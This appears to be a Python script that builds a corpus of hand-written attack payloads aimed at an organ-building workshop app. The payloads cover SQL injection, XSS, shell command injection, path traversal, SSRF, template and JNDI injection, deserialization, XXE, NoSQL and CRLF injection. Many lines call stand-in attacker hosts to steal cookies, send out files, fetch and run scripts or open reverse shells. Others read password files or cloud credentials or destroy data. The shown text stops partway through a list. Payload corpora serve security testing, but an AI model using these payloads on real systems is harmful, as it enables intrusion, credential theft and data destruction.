#!/usr/bin/env python3
"""Attack corpus for an organ-building workshop app. Hand-written payloads."""
import json, os, random

SEED = 31502
rng = random.Random(SEED)

# (category, class) -> hand-written literal values
A = []
def add(cat, cls, vals):
    for v in vals:
        A.append((cat, cls, v))

# ---------------- SQLi ----------------
add("sqli", "union", [
    "Principal 8' UNION SELECT username, password_hash, NULL FROM staff--",
    "Trompete' UNION ALL SELECT NULL,table_name,NULL,NULL FROM information_schema.tables-- -",
    "HW-01-C' union select 1,concat(login,0x3a,pw),3,4 from users#",
    "c1') UNION SELECT iban, account_holder FROM invoices WHERE '1'='1",
    "Mixtur IV' UnIoN/**/SeLeCt/**/group_concat(column_name),2/**/FrOm/**/information_schema.columns/**/WhErE/**/table_name='parishes'--",
    "0 union select sqlite_version(),name,sql from sqlite_master--",
    "Gedackt%27%20UNION%20SELECT%20null%2Cemail%2Cpassword%20FROM%20customers--",
    "-1 UNION SELECT 1,@@version,user(),database()-- ",
    "Oboe' /*!50000UNION*/ /*!50000SELECT*/ api_key,2 FROM settings-- x",
    "Subbass'  UNION%0aSELECT%0aname,card_number%0aFROM%0apayments--",
    "St. Marien') union select string_agg(usename||':'||passwd,','),null from pg_shadow--",
])
add("sqli", "boolean-blind", [
    "Principal 8' AND 1=1-- ",
    "Principal 8' AND 1=2-- ",
    "HW-03-e2' AND substring((select password from staff where id=1),1,1)='a'--",
    "c1' AND ASCII(SUBSTR((SELECT iban FROM invoices LIMIT 1),3,1))>52 AND 'x'='x",
    "Octave 4' OR 'organ'='organ",
    "2024/088' and (select count(*) from users)>0 and ''='",
    "Trompete 8' AnD (SeLeCt LeNgTh(pw) FrOm staff wHeRe login='admin')=12--",
    "x' || (SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END) || '",
    "Cornet' AND 'a'=(SELECT CASE WHEN (SUBSTRING(current_user,1,1)='p') THEN 'a' ELSE 'b' END)--",
])
add("sqli", "tautology", [
    "' OR 1=1 -- ",
    "admin'-- ",
    "O'Connor' OR '1'='1",
    "anything' or 2>1#",
    "St. Anne\\' OR 1=1-- (escaped quote trick)",
    "') or ('x')=('x",
    "\" OR \"\"=\"",
    "organist@parish.example' OR 'a' LIKE 'a",
    "1 or true",
    "' || 1=1 ||'",
])
add("sqli", "time-blind", [
    "Bourdon 16'; SELECT pg_sleep(7)--",
    "HW-01-C' AND SLEEP(6)-- -",
    "c#2'; WAITFOR DELAY '0:0:9'--",
    "Krummhorn' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- x",
    "1 AND 7311=BENCHMARK(4000000,MD5(0x6f7267616e))",
    "Mixtur' || (select case when 1=1 then pg_sleep(4) else pg_sleep(0) end)||'",
    "OB-2025-0042' AND 1=(SELECT 1 FROM PG_SLEEP(8))--",
    "x' and dbms_pipe.receive_message(('a'),10)=1--",
    "Gamba 8'+IF(1=1,SLEEP(5),0)+'",
    "1;SeLeCt+SlEeP(10)#",
])
add("sqli", "error-based", [
    "' AND extractvalue(1,concat(0x7e,(SELECT password FROM staff LIMIT 1)))-- ",
    "Principal' AND updatexml(null,concat(0x3a,version()),null)--",
    "c1' AND 1=CAST((SELECT iban FROM invoices LIMIT 1) AS int)--",
    "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))",
    "Oboe' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -",
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "x' AND exp(~(select * from (select database())a))-- ",
])
add("sqli", "stacked", [
    "Subbass 16'; DROP TABLE pipe_inventory;--",
    "2024/112'; UPDATE invoices SET total=0 WHERE parish='St. Mary';--",
    "c1'; INSERT INTO staff(login,role) VALUES('ghost','admin');--",
    "x'; EXEC xp_cmdshell 'whoami';--",
    "HW-05; COPY (SELECT '') TO PROGRAM 'id > /tmp/o';--",
    "Trompete'; ALTER USER postgres PASSWORD 'FAKE-pw-123';--",
    "St. Jakob'; DELETE FROM concert_bookings WHERE 1=1; --",
    "Gedackt'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd';--",
])
add("sqli", "order-by-injection", [
    "diameter_mm,(select case when (1=1) then 1 else 1/0 end)",
    "note ASC, (SELECT SLEEP(4))",
    "rank desc,if((select substr(pw,1,1) from staff limit 1)='a',1,(select 1 union select 2))",
    "(CASE WHEN (SELECT COUNT(*) FROM staff)>3 THEN length_mm ELSE diameter_mm END)",
    "1,extractvalue(0x0a,concat(0x0a,(select user())))",
])
add("sqli", "second-order-insert", [
    "Kowalski', (SELECT password FROM staff WHERE login='admin'))-- ",
    "Note for visit'||(select api_key from settings limit 1)||'",
    "Hartmann', 1, 'admin') ON DUPLICATE KEY UPDATE role='admin'-- ",
    "St. Peter', (select version()), 'x');--",
])
add("sqli", "comment-obfuscation", [
    "Prinzipal'/**/OR/**/1/**/=/**/1/**/--/**/",
    "Nasat'/*organ*/UNION/*pipe*/SELECT/*x*/1,2,pw/**/FROM/**/staff#",
    "c2'%09or%091%3d1%23",
    "Tierce'/*!or*/'1'='1",
    "1'+oR+'7'+lIkE+'7",
])
add("sqli", "encoded", [
    "Principal%2527%2520OR%25201%253D1--",
    "HW%EF%BC%87 OR 1=1--",
    "c1\uff07 UNION SELECT pw FROM staff--",
    "x%bf%27 OR 1=1 -- (gbk multibyte)",
])

# ---------------- XSS ----------------
add("xss", "script-tag", [
    "Lovely recital! <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Principal 8' <ScRiPt>new Image().src='//attacker.example/p?c='+escape(document.cookie)</sCrIpT>",
    "<script src=https://attacker.example/organ.js></script>",
    "Dear Rev. O'Connor,<script>location='https://attacker.example/?'+localStorage.token</script>",
    "</textarea><script>alert(document.domain)</script>",
    "</title><script>document.forms[0].action='https://attacker.example/steal'</script>",
    "<script\n>top.location='//attacker.example/'+document.cookie</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "Booking note <script type=\"text/javascript\">eval(atob('YWxlcnQoMSk='))</script>",
    "<SCRIPT>fetch('/api/staff').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/x',t))</SCRIPT>",
])
add("xss", "event-handler", [
    "<img src=x onerror=alert(document.cookie)>",
    "Trompete 8' <img src=/nope.jpg onerror=\"fetch('//attacker.example/'+document.cookie)\">",
    "<svg onload=confirm(1)>",
    "<svg/onload=location=`//attacker.example/${document.cookie}`>",
    "<body onpageshow=alert(origin)>",
    "<details open ontoggle=alert(1)>stop list</details>",
    "<input autofocus onfocus=alert('organ')>",
    "<video><source onerror=\"javascript:alert(2)\"></video>",
    "<div onmouseover=\"this.innerHTML=document.cookie\">hover over the Mixtur</div>",
    "<iMg SrC=x OnErRoR=prompt`1`>",
    "<marquee onstart=alert(1)>Festival Orgel Plus</marquee>",
    "<audio src=x onerror=import('//attacker.example/m.js')>",
    "<img src=\"x\"/onerror=\"top['al'+'ert'](1)\">",
    "<select autofocus onfocus=alert(1)><option>Bach</option></select>",
    "<textarea autofocus onfocus=alert(document.domain)>",
    "<img src=1 onerror=alert&#40;1&#41;>",
    "<x onpointerenter=alert(1)>touch here for tickets</x>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=alert(1)>",
])
add("xss", "attribute-breakout", [
    "Widor\" onmouseover=\"alert(1)",
    "Smith' autofocus onfocus='alert(document.cookie)' x='",
    "\"><img src=x onerror=alert(1)>",
    "St. Mary\"><svg onload=alert(1)>",
    "' style='position:fixed;top:0;left:0;width:100%;height:100%' onmouseover='alert(1)",
    "x\" accesskey=\"x\" onclick=\"alert(1)",
    "\"/><iframe src=javascript:alert(1)>",
])
add("xss", "javascript-uri", [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java&#x09;script:alert(1)",
    "<a href=\"jav&#x61;script:alert(1)\">programme PDF</a>",
    "<a href=javascript&colon;alert(1)>Concert tickets</a>",
    "  javascript://%0aalert(1)",
    "<iframe src=\"javascript:parent.alert(1)\"></iframe>",
    "<form><button formaction=javascript:alert(1)>Book seats</button></form>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
])
add("xss", "encoded", [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
])
add("xss", "dom-template", [
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><p ng-focus=$event.view.alert(1) tabindex=0>x</p></div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "#<img src=x onerror=alert(1)>",
    "';alert(String.fromCharCode(88,83,83));//",
    "\";alert(1);//",
    "</script><script>alert(1)</script>",
    "${alert(document.domain)}",
])
add("xss", "markdown-svg", [
    "[Programme PDF](javascript:alert(1))",
    "![organ](x\"onerror=\"alert(1))",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Stop list</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
])
add("xss", "css-meta", [
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<base href=\"https://attacker.example/\">",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/a)}</style>",
])

# ---------------- CMDi ----------------
add("cmdi", "separator", [
    "stmarien_scan.pdf; cat /etc/passwd",
    "scale_2024.csv; curl -s https://attacker.example/x.sh | sh",
    "report.pdf && id",
    "HW-01 | nc 203.0.113.7 4444 -e /bin/sh",
    "chest_01.jpg || wget -qO- http://198.51.100.23/a | bash",
    "Principal 8; rm -rf /var/www/uploads",
    "invoice_88.pdf & whoami & ",
    "tuning.log;uname${IFS}-a",
    "photo.jpg\nid",
    "stoplist.txt\r\ncat /etc/shadow",
    "scan.tif; bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
    "export.csv|tee /var/www/html/x.php",
    "2024-03-12;ping -c 5 attacker.example",
    "a.pdf%0Acat%20/etc/passwd",
    "x.jpg%3Bid",
    "report; python3 -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.4\",53))'",
    "pipes.csv && curl -F f=@/etc/hostname https://attacker.example/up",
    "stmarien; sleep 15",
    "scan.pdf || ping -n 12 127.0.0.1",
    "Oboe.wav; perl -e 'print `id`'",
])
add("cmdi", "substitution", [
    "$(cat /etc/passwd)",
    "chest_`whoami`.jpg",
    "Trompete_$(id -u).wav",
    "$(curl https://attacker.example/$(hostname))",
    "report-`curl -s attacker.example/r|sh`.pdf",
    "${IFS}$(sleep${IFS}9)",
    "scan$((1+1))$(nslookup $(whoami).attacker.example).pdf",
    "<(curl -s https://attacker.example/p)",
    "$(printf '\\x69\\x64')",
    "St. Marien $(dig +short $(cat /etc/hostname).attacker.example)",
])
add("cmdi", "obfuscated", [
    "x;c'a't /e't'c/pa's'swd",
    "x;c\\at /et\\c/pas\\swd",
    "x;/???/c?t /e??/p?ss?d",
    "x;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)",
    "x;{cat,/etc/passwd}",
    "x;cat$IFS/etc/passwd",
    "x;w'h'o'a'm'i",
    "x;${PATH:0:1}bin${PATH:0:1}sh -c id",
    "x;a=ca;b=t;$a$b /etc/passwd",
    "x;$'\\x63\\x61\\x74' /etc/hosts",
    "x;rev<<<'dwssap/cte/ tac'|sh",
    "x;tr 'a-z' 'n-za-m' <<< 'vq' | sh",
])
add("cmdi", "windows", [
    "scan.pdf & type C:\\Windows\\win.ini",
    "invoice.docx | powershell -nop -c \"iwr https://attacker.example/a.ps1|iex\"",
    "report && certutil -urlcache -split -f http://203.0.113.5/p.exe %TEMP%\\p.exe",
    "x.jpg & net user ghost FakePass1! /add",
    "stoplist & cmd /c dir C:\\Users",
    "a.pdf | powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==",
    "photo.jpg & ping -n 10 198.51.100.3",
    "x%26whoami",
])
add("cmdi", "argument-injection", [
    "--output=/var/www/html/shell.php",
    "-oProxyCommand=curl${IFS}attacker.example/s|sh",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-exec sh -c 'id' ;",
    "chest.jpg -write /var/www/html/p.php",
    "--post-file=/etc/passwd https://attacker.example/",
    "-X POST -d @/etc/shadow https://attacker.example/",
    "organist@example.org -OQueueDirectory=/tmp -X/var/www/html/x.php",
    "--upload-pack='touch /tmp/pwn' origin",
])
add("cmdi", "imagetragick-filename", [
    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|id \")'\npop graphic-context",
    "scan.gif\" ; curl attacker.example/$(id|base64) ; \".gif",
    "\"; ls -la / #.pdf",
    "photo'$(touch /tmp/o)'.jpg",
    "a.jpg`sleep 10`",
    "chest.tiff';wget -O /tmp/.x http://198.51.100.8/x;'",
    "file.pdf$(reboot)",
])

# ---------------- traversal ----------------
add("traversal", "dotdot", [
    "../../../../etc/passwd",
    "photos/2024/stmarien/../../../../../../etc/shadow",
    "scans/../../../app/config/database.yml",
    "..\\..\\..\\..\\Windows\\win.ini",
    "reports/..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../proc/self/environ",
    "chest_01.jpg/../../../../../root/.ssh/id_rsa",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "../../../../var/log/nginx/access.log",
    "stoplist/../../.env",
    "..//..//..//..//etc//passwd",
    "/photos/../../../../../home/workshop/.bash_history",
    "../../../../../../proc/self/cmdline",
    "invoices/2024/../../../../etc/mysql/my.cnf",
    "..\\/..\\/..\\/etc/passwd",
])
add("traversal", "absolute", [
    "/etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///etc/passwd",
    "/proc/self/fd/3",
    "\\\\198.51.100.12\\share\\scale.xlsx",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "C:/inetpub/logs/LogFiles/W3SVC1/u_ex240312.log",
])
add("traversal", "encoded", [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "．．／．．／．．／etc／passwd",
    "%2e%2e/%2e%2e/%2e%2e/app/.git/config",
    "..%252f..%252f..%252fetc%252fhosts",
    "..%e0%80%ae/..%e0%80%ae/etc/passwd",
    "photos%2f..%2f..%2f..%2f..%2fetc%2fshadow",
    "reports/2024/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/group",
    "..%2f..%2f..%2f..%2fhome%2fworkshop%2f.aws%2fcredentials",
])
add("traversal", "null-byte", [
    "../../../../etc/passwd%00.jpg",
    "../../../app/config.php%00.pdf",
    "..\\..\\..\\boot.ini\\u0000.png",
    "stmarien/../../../../etc/hosts%00",
])
add("traversal", "wrapper", [
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "zip://uploads/scans.zip%23shell.php",
    "phar://uploads/chest_01.jpg/x",
    "expect://id",
])

# ---------------- SSRF ----------------
add("ssrf", "cloud-metadata", [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "https://example.org/report.pdf?x=1&fetch=http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
])
add("ssrf", "loopback-internal", [
    "http://127.0.0.1:8080/admin",
    "http://localhost/server-status",
    "http://127.0.0.1:6379/",
    "http://localhost:9200/_cat/indices",
    "http://10.0.0.12/internal/invoices",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:2375/containers/json",
    "https://db.internal:5432/",
    "http://[::1]:8000/debug",
    "http://0.0.0.0:3000/api/staff",
    "http://consul.service.consul:8500/v1/kv/?recurse",
    "http://kubernetes.default.svc/api/v1/secrets",
])
add("ssrf", "alt-ip", [
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://127.1/server-status",
    "http://0x7f.0x0.0x0.0x1:8080/",
    "http://[::ffff:127.0.0.1]/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0251.0376.0251.0376/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.000.000.001:80/",
    "http://0/",
])
add("ssrf", "parser-confusion", [
    "https://parish.example.org@127.0.0.1/admin",
    "http://attacker.example#@parish.example.org/",
    "http://parish.example.org.attacker.example/redirect?to=http://169.254.169.254/",
    "http://127.0.0.1\\@parish.example.org/",
    "https://attacker.example/r?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin",
    "http://localtest.me:8080/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://attacker.example:80@10.0.0.5/",
    "http://127.0.0.1%2523@parish.example.org/",
    "https://rebind.attacker.example/latest/meta-data/ (resolves 198.51.100.2 then 169.254.169.254)",
])
add("ssrf", "scheme", [
    "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file://localhost/etc/shadow",
    "ftp://198.51.100.14/scale.csv",
    "ldap://127.0.0.1:389/dc=workshop",
    "jar:https://attacker.example/x.zip!/a.txt",
    "tftp://203.0.113.20/payload",
    "netdoc:///etc/hosts",
])

# ---------------- code ----------------
add("code", "ssti", [
    "Dear {{ parish_name }}, {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
    "Invoice for {{7*'7'}} — total {{ config.items() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$r",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "${{7*7}}{{ request['__cl'+'ass__'] }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "#{7*7}#{''.getClass().forName('java.lang.Runtime')}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}{{/with}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
])
add("code", "expression-language", [
    "${jndi:ldap://attacker.example:1389/o}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.44/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/x}",
    "Tuning note ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${j${k8s:k5:-ND}i:ldap://198.51.100.60/e}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/b}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    "#{request.getClass().getClassLoader()}",
    "${pageContext.request.getSession().setAttribute('admin',true)}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${date:yyyy}${jndi:ldaps://attacker.example/c}",
])
add("code", "eval-injection", [
    "__import__('os').system('id')",
    "155*2**(-n/16); __import__('subprocess').getoutput('cat /etc/passwd')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "require('child_process').exec('curl attacker.example/s|sh')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "');system('id');//",
    "\";phpinfo();//",
    "${@system($_GET[c])}",
    "1;exec(\"import socket,subprocess;s=socket.socket();s.connect(('203.0.113.15',4444))\")",
    "[].constructor.constructor('return process')().exit()",
    "Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})",
    "open('/etc/passwd').read()",
    "globals()['__builtins__']['exec']('import os;os.system(\"id\")')",
])
add("code", "prototype-pollution", [
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[isAdmin]=true",
    "constructor.prototype.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');s",
    "{\"note\":\"Principal 8\",\"__proto__\":{\"shell\":\"/bin/sh\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}",
    "settings[__proto__][polluted]=1",
    "{\"__proto__\":{\"toString\":\"x\",\"sourceURL\":\"\\u2028\\u2029\\nprocess.exit()\"}}",
])
add("code", "csv-formula", [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Invoice 2024/112\")",
    "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/a'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://attacker.example/x?\"&A2)",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:D9),\"//a\")",
    "\"=1+1\";Principal 8';C;155",
    "HW-09-c1;=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "\t=cmd|'/c mshta http://198.51.100.9/p.hta'!_xlbgnm.A1",
])
add("code", "xxe", [
    "<?xml version=\"1.0\"?><!DOCTYPE stoplist [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><stoplist><stop>&x;</stop></stoplist>",
    "<!DOCTYPE r [<!ENTITY % d SYSTEM \"https://attacker.example/evil.dtd\"> %d;]><r/>",
    "<?xml version=\"1.0\"?><!DOCTYPE inv [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><invoice><note>&e;</note></invoice>",
    "<!DOCTYPE svg [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\">]><svg><text>&f;</text></svg>",
    "<!DOCTYPE lolz [<!ENTITY a \"pipe\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE a SYSTEM \"http://203.0.113.30/a.dtd\"><a>&send;</a>",
])
add("code", "deserialization", [
    "O:8:\"Workshop\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:3:\"cmd\";s:2:\"id\";}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    "!!python/object/apply:os.system ['id']",
    "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]",
    "cos\nsystem\n(S'id'\ntR.",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n      method_id: :system\n      socket: id",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"https://attacker.example/y.jar\"]]]]",
])

# ---------------- NoSQLi ----------------
add("nosqli", "operator-injection", [
    "{\"login\": \"admin\", \"password\": {\"$ne\": null}}",
    "{\"$gt\": \"\"}",
    "password[$ne]=x",
    "login[$regex]=^adm&password[$ne]=1",
    "{\"parish\": {\"$regex\": \".*\"}, \"invoice_total\": {\"$gte\": 0}}",
    "{\"rank\": {\"$in\": [\"Principal 8\", {\"$exists\": true}]}}",
    "user[$exists]=true",
    "{\"email\": {\"$regex\": \"^o\", \"$options\": \"i\"}, \"pw\": {\"$nin\": []}}",
    "{\"$or\": [{\"role\": \"admin\"}, {\"1\": {\"$eq\": 1}}]}",
    "token[$gt]=",
    "{\"booking_ref\": {\"$not\": {\"$eq\": \"none\"}}}",
    "{\"pw\": {\"$regex\": \"^a.{7}$\"}}",
])
add("nosqli", "js-injection", [
    "{\"$where\": \"this.password.length > 0\"}",
    "'; return true; var x='",
    "{\"$where\": \"sleep(5000) || true\"}",
    "1'; while(true){}; '",
    "{\"$where\": \"function(){return this.role=='admin'}\"}",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "\"' || this.iban.match(/^DE/) || '\"",
])
add("nosqli", "aggregation-lookup", [
    "[{\"$lookup\": {\"from\": \"staff\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]",
    "{\"$unionWith\": \"invoices\"}",
    "{\"note\": \"Gedackt\", \"$comment\": \"x\", \"owner\": {\"$type\": 2}}",
    "{\"_id\": {\"$gt\": {\"$oid\": \"000000000000000000000000\"}}}",
    "db.staff.find({}).forEach(printjson)",
    "{\"parish\": \"St. Mary\", \"$where\": \"1==1\"}",
    "{\"$jsonSchema\": {}, \"password\": {\"$regex\": \"\"}}",
    "{\"stop\": {\"$elemMatch\": {\"$ne\": null}}}",
])

# ---------------- CRLF ----------------
add("crlf", "log-forging", [
    "tuned reeds\n2024-03-12 11:00:00 INFO user=admin action=delete_all status=ok",
    "cipher cleared\r\n[2024-03-12 10:05:01] AUTH SUCCESS user=meister ip=127.0.0.1",
    "St. Jakob%0a2024-04-01 09:00 WARN payment confirmed invoice=2024/112 amount=0",
    "visit ok%0d%0a[INFO] backup completed; audit disabled by admin",
    "Oboe regulated\u2028ERROR: disk full, rotating logs",
    "Pedal ok\n\n=== END OF LOG ===\nGET /admin 200",
])
add("crlf", "header-injection", [
    "en\r\nSet-Cookie: session=attacker-fixed-123; Path=/",
    "/concerts%0d%0aLocation:%20https://attacker.example/",
    "de%0D%0AX-Forwarded-Host:%20attacker.example",
    "report.pdf\r\nContent-Disposition: attachment; filename=invoice.html",
    "stmarien%0aSet-Cookie:%20admin=1",
    "fr\r\nAccess-Control-Allow-Origin: https://attacker.example",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
    "/tickets?lang=en%0d%0aRefresh:%200;url=https://attacker.example",
])
add("crlf", "response-splitting", [
    "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "de\r\n\r\n<html><body>Your session expired, <a href=https://attacker.example/login>log in</a></body></html>",
    "/booking%0d%0a%0d%0a<svg%20onload=alert(1)>",
    "x%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Cimg%20src=x%20onerror=alert(1)%3E",
])
add("crlf", "mail-header", [
    "organist@parish.example.org\r\nBcc: list@attacker.example",
    "Concert booking\nCc: everyone@attacker.example\nX-Priority: 1",
    "Anna Kowalska <anna@example.org>%0ABcc:%20spam@attacker.example",
    "Re: invoice 2024/112\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay now</a>",
    "tuning@workshop.example\nTo: parishes@attacker.example",
    "Quote request%0d%0aReply-To:%20billing@attacker.example",
])
add("crlf", "csv-row-injection", [
    "Principal 8 ok\nHW-99-C;Principal 8';C;155;=cmd|' /C calc'!A0",
    "dent near mouth\"\r\n\"=HYPERLINK(\"\"https://attacker.example/\"\",\"\"click\"\")\",\"x",
